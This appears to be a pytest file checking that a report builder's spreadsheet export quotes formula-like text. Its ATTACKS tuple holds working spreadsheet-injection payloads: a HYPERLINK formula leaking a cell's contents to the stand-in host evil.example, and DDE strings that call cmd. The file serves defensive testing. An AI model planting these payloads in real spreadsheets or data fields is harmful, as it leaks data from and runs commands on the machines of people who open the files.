"""Text that looks like a formula (=, +, -, @, tab, CR) is written as text in every spreadsheet."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from reports.build import build_report, report_engine
from reports.xlsx import safe_cell_text, write_xlsx
from shared.config.site import SiteConfig
from shared.storage.dossier_tables import OfficerRow
from tests.reports.conftest import GENERATED

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_quoted_for_csv(text: str) -> None:
    assert safe_cell_text(text) == "'" + text
    assert safe_cell_text("Hộ tịch") == "Hộ tịch" and safe_cell_text("") == ""


def test_names_from_the_catalogue_and_officers_are_never_live_formulas(
    sessions: sessionmaker[Session],
    filled: dict[str, int],
    database_url: str,
    site_config: SiteConfig,
    tmp_path: Path,
) -> None:
    """The audit: an officer named `=HYPERLINK(…)` became a live formula in the workbook."""
    with sessions.begin() as session:
        session.execute(
            update(OfficerRow).where(OfficerRow.officer_id == "cb01").values(name=ATTACKS[0])
        )
    data = site_config.model_dump()
    data["site"]["name"] = ATTACKS[3]
    for service, attack in zip(data["services"], ATTACKS[1:], strict=False):
        service["name"] = attack
    config = SiteConfig.model_validate(data)
    engine = report_engine(database_url)
    try:
        report = build_report(engine, config, date(2026, 11, 1), date(2026, 11, 30), GENERATED)
    finally:
        engine.dispose()
    book = load_workbook(write_xlsx(report, tmp_path / "r.xlsx"))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    assert any(t.startswith(ATTACKS[0]) for t in texts), "the officer is still named, as text"
    assert ATTACKS[1] in texts, "so is the service"
